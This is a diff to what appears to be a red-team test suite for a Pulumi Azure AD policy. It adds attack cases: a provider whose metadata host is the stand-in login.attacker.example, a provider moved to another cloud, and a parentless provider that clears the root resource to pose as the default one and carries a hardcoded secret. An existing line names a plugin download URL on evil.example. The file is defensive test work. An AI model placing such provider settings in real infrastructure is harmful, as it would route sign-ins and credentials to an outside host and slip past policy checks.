@@ -777,6 +777,32 @@ def provider_plugin_from_elsewhere(app: AppRegistration) -> None:
     )
 
 
+def provider_with_an_attackers_metadata_host(app: AppRegistration) -> None:
+    """R3-04: an explicit provider that fetches its login and Graph endpoints elsewhere."""
+    azuread.Provider(
+        "attack-metadata-host",
+        metadata_host="login.attacker.example",
+        use_oidc=True,
+        tenant_id=app.tenant_id,
+    )
+
+
+def provider_in_another_cloud(app: AppRegistration) -> None:
+    """R3-04: an explicit provider switched to another cloud's endpoints."""
+    azuread.Provider("attack-environment", environment="china")
+
+
+def provider_without_a_parent(app: AppRegistration) -> None:
+    """R3-07: clear the root resource and the provider looks like the engine's default one."""
+    from pulumi.runtime.settings import ROOT
+
+    token = ROOT.set(None)
+    try:
+        azuread.Provider("attack-parentless", client_id=app.client_id, client_secret="s3cr3t")
+    finally:
+        ROOT.reset(token)
+
+
 def second_component(app: AppRegistration) -> None:
     """RT-52: one line, a second Tier-0 app of the same shape."""
     AppRegistration(
@@ -1227,6 +1253,28 @@ ATTACKS: Final[tuple[Attack, ...]] = (
         "pluginDownloadURL is set (https://evil.example/p/)",
         ("attack-plugin",),
         provider_plugin_from_elsewhere,
+    ),
+    Attack(
+        "r3-04-provider-with-an-attackers-metadata-host",
+        _CREDENTIALS,
+        "metadataHost is set (login.attacker.example)",
+        ("attack-metadata-host",),
+        provider_with_an_attackers_metadata_host,
+    ),
+    Attack(
+        "r3-04-provider-in-another-cloud",
+        _CREDENTIALS,
+        "environment is china",
+        ("attack-environment",),
+        provider_in_another_cloud,
+    ),
+    Attack(
+        "r3-07-provider-without-a-parent",
+        _CREDENTIALS,
+        "a provider without a parent (the default one: the stack's azuread:* config) that "
+        "chooses whom it signs in as (clientId, clientSecret)",
+        ("attack-parentless",),
+        provider_without_a_parent,
     ),
     Attack(
         "rt52-second-component",
